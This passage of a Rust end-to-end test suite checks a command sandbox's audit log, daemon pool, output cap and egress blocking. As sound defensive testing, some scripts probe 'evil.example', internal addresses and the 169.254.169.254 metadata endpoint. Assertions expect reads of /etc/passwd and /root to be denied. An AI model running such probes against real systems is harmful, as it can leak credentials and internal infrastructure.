    d.launch(["--pool-size", "1"]);
    let unpooled = d.unpooled();
    let out = {
        let _audit = AuditOn::start();
        trail
            .wire_traces(d.exec_with(strict_with(&ws), ["sh", "-c", KERNEL_DENIAL_SCRIPT]))
            .run()
    };
    assert_eq!(
        d.unpooled(),
        unpooled + 1,
        "served by the daemon: {}",
        d.log()
    );
    assert_kernel_denials(&trail, &out, &ws);
}

/// The run of [`KERNEL_DENIAL_SCRIPT`]: output, the three kernel denials in the audit log
/// with the profile's rule, and as `policy.check` spans enforced by Landlock.
fn assert_kernel_denials(trail: &Trail, out: &RunOutput, ws: &tempfile::TempDir) {
    assert_eq!(out.success(), "s3cr3t-token\n", "{out}");
    let d = trail.decisions();
    let kernel: Vec<&Value> = d.iter().filter(|r| r["action"] != "fs.mount").collect();
    assert_eq!(kernel.len(), 3, "{d:#?}");
    assert_decision(
        kernel[0],
        "fs.read",
        "/etc/passwd",
        "deny",
        "filesystem.default",
    );
    assert_decision(kernel[1], "fs.read", "/root", "deny", "filesystem.default");
    // For creating or removing an entry the kernel names the directory, not the entry.
    assert_decision(
        kernel[2],
        "fs.write",
        "/workspace",
        "deny",
        "filesystem.default",
    );
    assert!(
        kernel[2]["reason"]
            .as_str()
            .unwrap()
            .contains("fs.make_reg"),
        "{:?}",
        kernel[2]
    );
    assert!(
        kernel[1]["reason"]
            .as_str()
            .unwrap()
            .contains("fs.read_dir"),
        "{:?}",
        kernel[1]
    );
    let (exec, checks) = trail.spans(4);
    assert_eq!(
        exec.typed_attr("sandbox.enforce.landlock_audit", "bool"),
        "true"
    );
    assert_eq!(exec.typed_attr("sandbox.kernel_denials", "int"), "3");
    assert_eq!(exec.typed_attr("sandbox.violation_count", "int"), "3");
    let by_kernel: Vec<&ReceivedSpan> = checks
        .iter()
        .filter(|c| c.attr("sandbox.enforced_by") == "landlock")
        .collect();
    assert_eq!(by_kernel.len(), 3, "{checks:#?}");
    assert!(by_kernel
        .iter()
        .any(|c| c.attr("sandbox.resource") == "/workspace"
            && c.attr("sandbox.action") == "fs.write"));
    assert!(!ws.path().join("evil.txt").exists());
}

#[test]
fn daemon_path_takes_profile_files_and_allowlists() {
    let Some(_lock) = setup() else { return };
    let audit = tempdir();
    let dir = tempdir();
    let profile = write_profile(
        dir.path(),
        "envonly.toml",
        "name = \"envonly\"\n[env]\nallow = [\"GREETING\"]\ndefaults = { PATH = \"/usr/bin:/bin\" }\n",
    );
    let mut d = agentrun_e2e::Daemon::unstarted().with_env("AGENTRUN_AUDIT_DIR", audit.path());
    d.launch(["--pool-size", "1"]);
    let unpooled = d.unpooled();

    // A profile file goes through the daemon (by absolute path), its decisions recorded.
    let out = d
        .exec_with(
            ["--profile", profile.to_str().unwrap(), "-e", "GREETING=hi"],
            ["sh", "-c", "echo $GREETING"],
        )
        .run();
    assert_eq!(out.success(), "hi\n", "{out}\n{}", d.log());
    assert_eq!(
        d.unpooled(),
        unpooled + 1,
        "served by the daemon: {}",
        d.log()
    );
    let out = d
        .exec_with(
            ["--profile", profile.to_str().unwrap(), "-e", "OTHER=x"],
            ["true"],
        )
        .run();
    out.assert_code(126);
    assert_eq!(
        d.unpooled(),
        unpooled + 1,
        "refused before reaching the daemon"
    );

    // An allowlist goes through the daemon too (a pooled shell; the run's egress proxy runs in
    // the client, its decisions recorded like the cold path's).
    let hits = d.default_pool().hits;
    let up = Upstream::start();
    let allowed = format!("127.0.0.1:{}", up.port);
    let url = format!("http://{allowed}/x");
    let out = d
        .exec_with(
            ["--allow-host", allowed.as_str()],
            [
                "python3",
                "-c",
                &format!(
                    "import urllib.request; print(urllib.request.urlopen('{url}').read().decode())"
                ),
            ],
        )
        .run();
    assert_eq!(out.success(), format!("{UPSTREAM_BODY}\n"), "{out}");
    assert_eq!(d.default_pool().hits, hits + 1, "a pool hit: {}", d.log());

    let records = agentrun(["audit", "--json"])
        .env("AGENTRUN_AUDIT_DIR", audit.path())
        .run();
    let recs: Vec<Value> = records
        .success()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let decisions: Vec<(String, String, String)> = recs
        .iter()
        .filter(|r| r["kind"] == "decision")
        .map(|r| {
            (
                r["action"].as_str().unwrap().to_string(),
                r["resource"].as_str().unwrap().to_string(),
                r["decision"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        decisions,
        vec![
            ("env.set".into(), "GREETING".into(), "allow".into()),
            ("env.set".into(), "OTHER".into(), "deny".into()),
            ("net.connect".into(), allowed.clone(), "allow".into()),
        ]
    );
    let warm_decision = recs.iter().find(|r| r["resource"] == "GREETING").unwrap();
    assert!(
        warm_decision["sandbox_id"]
            .as_str()
            .is_some_and(|s| s.starts_with("ar-")),
        "{warm_decision}"
    );

    // A pool of a profile with a network policy is kept like any other: its runs are hits.
    let mut ci = agentrun_e2e::Daemon::unstarted().with_env("AGENTRUN_AUDIT_DIR", audit.path());
    ci.launch(["--pool", "host:code-interpreter=1"]);
    let out = ci
        .exec_with(
            ["--profile", "code-interpreter"],
            ["sh", "-c", "echo $HTTPS_PROXY"],
        )
        .run();
    assert_eq!(
        out.success(),
        "http://127.0.0.1:3128\n",
        "{out}\n{}",
        ci.log()
    );
    let pool = ci
        .pool_status()
        .into_iter()
        .find(|p| p.profile == "code-interpreter")
        .unwrap();
    assert_eq!(pool.hits + pool.misses, 1, "{pool:?}\n{}", ci.log());
}

#[test]
fn acknowledged_decisions_survive_agentrun_being_killed() {
    if !agentrun_e2e::require_root() {
        return;
    }
    agentrun_e2e::require_bin();
    // Kills an agentrun mid-run: its sandbox is left for `gc`, which no other test may see.
    let _lock = agentrun_e2e::exclusive_lock();
    let trail = Trail::new();
    // A private state dir (its parents world-searchable) for the sandbox left behind.
    let private = tempdir();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(private.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let state = private.path().join("state");
    let script = r#"
import sys, time, urllib.request, urllib.error
try:
    urllib.request.urlopen("http://evil.example/", timeout=10)
except urllib.error.HTTPError as e:
    print("blocked", e.code, flush=True)
time.sleep(60)
"#;
    let mut run = trail
        .wire(exec_with(
            ["--allow-host", "pypi.org:443"],
            ["python3", "-c", script],
        ))
        .env("AGENTRUN_STATE_DIR", &state)
        .spawn();
    let deadline = Instant::now() + Duration::from_secs(30);
    while !run.stdout_so_far().contains("blocked 403") {
        assert!(
            Instant::now() < deadline,
            "no 403 seen: {}",
            run.stderr_so_far()
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    // The sandbox got its 403 only after the record was on disk: kill agentrun right now.
    run.kill9();
    let d = trail.decisions();
    assert_eq!(d.len(), 1, "{d:?}");
    assert_decision(
        &d[0],
        "net.connect",
        "evil.example:80",
        "deny",
        "network.default",
    );
    // No run record: the run never finished. What it left is gc's job.
    assert!(trail.records(&[]).iter().all(|r| r["kind"] != "run"));
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        agentrun(["gc"])
            .env("AGENTRUN_STATE_DIR", &state)
            .run()
            .success();
        let left = std::fs::read_dir(state.join("sandboxes")).map_or(0, |d| d.count());
        if left == 0 {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "{left} sandbox(es) left after gc"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn output_over_the_cap_is_dropped() {
    let Some(_lock) = setup() else { return };
    let dir = tempdir();
    let profile = write_profile(
        dir.path(),
        "cap.toml",
        "name = \"cap\"\n[resources]\noutput_cap = \"1K\"\n",
    );
    let audit = tempdir();
    // Through a running daemon too: a capped run takes the cold path, where the cap holds.
    let mut d = agentrun_e2e::Daemon::unstarted().with_env("AGENTRUN_AUDIT_DIR", audit.path());
    d.launch(["--pool-size", "1"]);
    let out = d
        .exec_with(
            ["--profile", profile.to_str().unwrap()],
            [
                "sh",
                "-c",
                "head -c 10000 /dev/zero | tr '\\0' a; echo done >&2",
            ],
        )
        .run();
    assert_eq!(out.code(), 0, "{out}");
    assert_eq!(out.stdout.len(), 1024, "{out}");
    assert!(out.stdout.iter().all(|b| *b == b'a'));
    assert!(out.stderr().starts_with("done\n"), "{out}");
    assert!(
        out.stderr()
            .contains("agentrun: output over the profile's output cap was dropped"),
        "{out}"
    );
}

/// The warm client reads capped output up to what is in its pipes once the command exited
/// (not to their EOF, issue 30): all of it still arrives, both streams, in order, also past
/// a pipe's buffer and when the last bytes are written just before the exit.
#[test]
fn capped_output_under_the_cap_arrives_whole_through_the_daemon() {
    let Some(_lock) = setup() else { return };
    let mut d = agentrun_e2e::Daemon::unstarted();
    d.launch(["--pool", "host:code-interpreter=1"]);
    for _ in 0..5 {
        let out = d
            .exec_with(
                ["--profile", "code-interpreter"],
                [
                    "sh",
                    "-c",
                    "head -c 300000 /dev/zero | tr '\\0' a; echo; echo last; echo done >&2",
                ],
            )
            .run();
        assert_eq!(out.code(), 0, "{out}");
        assert_eq!(out.stdout.len(), 300_000 + 1 + 5, "{out}");
        assert!(out.stdout.ends_with(b"\nlast\n"), "{out}");
        assert!(out.stderr().ends_with("done\n"), "{out}");
    }
}

#[test]
fn mode_all_reaches_no_host_internal_address_unless_a_rule_names_it() {
    let Some(_lock) = setup() else { return };
    let trail = Trail::new();
    let up = Upstream::start();
    let dir = tempdir();
    let profile = write_profile(
        dir.path(),
        "all.toml",
        &format!(
            "name = \"all\"\n[network]\nmode = \"all\"\nallow = [\"127.0.0.1:{}\"]\n",
            up.port
        ),
    );
    let script = format!(
        r#"
import urllib.request, urllib.error
for url in ["http://localhost:{p}/", "http://10.0.0.1/", "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:{p}/named"]:
    try:
        print("OPEN", urllib.request.urlopen(url, timeout=10).read().decode())
    except urllib.error.HTTPError as e:
        print(e.code, e.read().decode().strip())
"#,
        p = up.port
    );
    let out = trail
        .wire(exec_with(
            ["--profile", profile.to_str().unwrap()],
            ["python3", "-c", script.as_str()],
        ))
        .run();
    let stdout = out.success();
    assert_eq!(stdout.matches("403 ").count(), 3, "{out}");
    assert!(
        stdout.ends_with(&format!("OPEN {UPSTREAM_BODY}\n")),
        "{out}"
    );
    assert_eq!(up.requests().len(), 1);
    let d = trail.decisions();
    let rules: Vec<(&str, &str)> = d
        .iter()
        .map(|r| (r["rule"].as_str().unwrap(), r["decision"].as_str().unwrap()))
        .collect();
    assert_eq!(
        rules,
        [
            ("network.resolved_address", "deny"),
            ("network.internal_address", "deny"),
            ("network.internal_address", "deny"),
            ("network.allow[0]", "allow"),
        ],
        "{d:#?}"
    );
}

/// A warm run's egress relay (in its cell's PID 1) starts its thread with the run's first
/// connection: a run that connects to nothing leaves its PID 1 single-threaded (a thread
/// started and torn down in every cell was most of the CPU a network policy added to a run,
/// issue 30), and one that connects is relayed as before, through a run forked by the
/// zygote (`code-interpreter`) and an exec'd one alike.
#[test]
fn a_warm_runs_egress_relay_starts_its_thread_with_the_first_connection() {
    let Some(_lock) = setup() else { return };
    let audit = tempdir();
    let mut d = agentrun_e2e::Daemon::unstarted().with_env("AGENTRUN_AUDIT_DIR", audit.path());
    d.launch(["--pool", "host:code-interpreter=1"]);
    let up = Upstream::start();
    let allowed = format!("127.0.0.1:{}", up.port);
    let url = format!("http://{allowed}/x");
    let tasks = "len(os.listdir('/proc/1/task'))";
    for python in [&["python3"][..], &["python3", "-I"][..]] {
        let run = |code: &str| {
            let mut cmd: Vec<&str> = python.to_vec();
            cmd.extend(["-c", code]);
            d.exec_with(
                [
                    "--profile",
                    "code-interpreter",
                    "--allow-host",
                    allowed.as_str(),
                ],
                cmd,
            )
            .run()
        };
        let out = run(&format!("import os; print({tasks})"));
        assert_eq!(
            out.success(),
            "1\n",
            "{python:?}: no relay thread before a connection: {out}"
        );
        let out = run(&format!(
            "import os, urllib.request\nprint(urllib.request.urlopen('{url}').read().decode())\nprint({tasks} > 1)"
        ));
        assert_eq!(
            out.success(),
            format!("{UPSTREAM_BODY}\nTrue\n"),
            "{python:?}: relayed once connected: {out}\n{}",
            d.log()
        );
    }
    // The client's side: its proxy's thread starts with the first connection too. While a
    // run that connects to nothing sleeps, its client has as many threads as one of a run
    // without a network policy.
    let client_threads = |opts: &[&str]| {
        let mut run = d.exec_with(opts, ["sh", "-c", "echo up; sleep 30"]).spawn();
        wait_until(Duration::from_secs(30), || {
            run.stdout_so_far().contains("up").then_some(())
        })
        .unwrap_or_else(|| panic!("the run never started: {}", run.stderr_so_far()));
        let n = std::fs::read_dir(format!("/proc/{}/task", run.pid()))
            .map(|d| d.count())
            .unwrap_or(0);
        run.kill9();
        n
    };
    let plain = client_threads(&["--profile", "default"]);
    let proxied = client_threads(&["--profile", "code-interpreter", "--allow-host", &allowed]);
    assert!(plain >= 1, "the client's threads could not be read");
    assert_eq!(
        proxied, plain,
        "no proxy thread in the client before a connection"
    );
}
